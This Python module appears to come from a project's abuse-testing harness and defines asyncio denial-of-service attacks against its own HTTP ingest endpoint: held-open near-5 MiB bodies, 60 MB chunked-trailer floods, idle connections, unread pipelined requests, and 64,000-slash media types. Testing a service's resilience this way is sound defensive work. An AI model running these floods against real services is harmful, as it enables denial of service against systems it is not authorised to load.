"""Attacks on the HTTP receiver's connections."""

from __future__ import annotations

import asyncio
import json
from contextlib import suppress

from deploy.abuse.attacks import exchanges
from deploy.abuse.target import ATTACKER, Target, now

CONNECTIONS = 150
ALMOST_A_BODY = 5_242_880 - 10  # bytes
TRAILERS = 60_000_000  # bytes
PIECE = b"x-a: " + b"b" * 1_000 + b"\r\n"
PIPELINED = 250
REFUSED_ITEMS = 1_000


async def unfinished_bodies(target: Target, until: float) -> None:
    """150 connections of one key, each 10 bytes short of 5 MiB."""
    headers = {"Host": "localhost", "Content-Type": "application/json", "Authorization": f"Bearer {target.key}"}
    start = exchanges.head("POST", "/ingest", headers | {"Content-Length": str(ALMOST_A_BODY + 10)})

    async def one() -> None:
        while asyncio.get_running_loop().time() < until:
            with suppress(OSError, TimeoutError):
                async with exchanges.opened(target.ingest) as (reader, writer):
                    writer.write(start)
                    for _ in range(ALMOST_A_BODY // 65_536):
                        writer.write(b" " * 65_536)
                        await asyncio.wait_for(writer.drain(), exchanges.PATIENCE)
                    await asyncio.wait_for(reader.read(1), max(0.1, until - asyncio.get_running_loop().time()))
            await asyncio.sleep(0.2)

    async with asyncio.TaskGroup() as group:
        for _ in range(CONNECTIONS):
            group.create_task(one())


async def trailers(target: Target, until: float) -> None:
    """60 MB of trailers after a chunked body, without a key, again and again."""
    headers = {"Host": "localhost", "Content-Type": "application/json", "Transfer-Encoding": "chunked"}
    start = exchanges.head("POST", "/ingest", headers) + b"0\r\n"
    while asyncio.get_running_loop().time() < until:
        with suppress(OSError, TimeoutError):
            async with exchanges.opened(target.ingest) as (_, writer):
                writer.write(start)
                for _ in range(TRAILERS // len(PIECE) // 64):
                    writer.write(PIECE * 64)
                    await asyncio.wait_for(writer.drain(), 2.0)
                    if asyncio.get_running_loop().time() > until:
                        return
        await asyncio.sleep(0.2)


async def silence_after_an_empty_line(target: Target, until: float) -> None:
    """200 connections that send an answered request and an empty line, and then nothing."""

    async def one() -> None:
        with suppress(OSError, TimeoutError):
            async with exchanges.opened(target.ingest) as (reader, writer):
                writer.write(exchanges.get("/healthz"))
                await asyncio.wait_for(reader.readline(), exchanges.PATIENCE)
                writer.write(b"\r\n")
                await exchanges.rest_until(until)

    async with asyncio.TaskGroup() as group:
        for _ in range(200):
            group.create_task(one())


async def pipelining(target: Target, until: float) -> None:
    """A good event and 250 bad requests in one write, and nobody reads the answers."""
    event = {"sourceId": ATTACKER, "timestamp": now(), "payload": {"a": 1}}
    good = exchanges.post(json.dumps(event).encode(), target.free_key)
    wire = good + exchanges.post(b"{}", target.free_key) * PIPELINED
    await exchanges.ask_until(until, target.ingest, [wire], at_once=4)


async def unread_refusals(target: Target, until: float) -> None:
    """Requests of 1,000 faults each, pipelined, and nobody reads the answers."""
    wire = exchanges.post(b"[" + b",".join([b"{}"] * REFUSED_ITEMS) + b"]", target.free_key)

    async def one() -> None:
        while asyncio.get_running_loop().time() < until:
            with suppress(OSError, TimeoutError):
                async with exchanges.opened(target.ingest) as (_, writer):
                    for _ in range(500):
                        writer.write(wire)
                        await asyncio.wait_for(writer.drain(), 2.0)
                        if asyncio.get_running_loop().time() > until:
                            return

    async with asyncio.TaskGroup() as group:
        for _ in range(8):
            group.create_task(one())


async def media_types(target: Target, until: float) -> None:
    """CloudEvents with a `datacontenttype` of 64,000 slashes, and heads with such a Content-Type."""
    slashes = "/" * 64_000
    event = '{"specversion":"1.0","id":"1","source":"attacker-1","type":"t","time":"2026-01-01T00:00:00Z","datacontenttype":"%s","data_base64":"AA=="}'
    wires = [
        exchanges.post((event % slashes).encode(), target.free_key, kind="application/cloudevents+json"),
        exchanges.post(b"{}", target.free_key, kind=slashes[:12_000]),
    ]
    await exchanges.ask_until(until, target.ingest, wires, at_once=2)
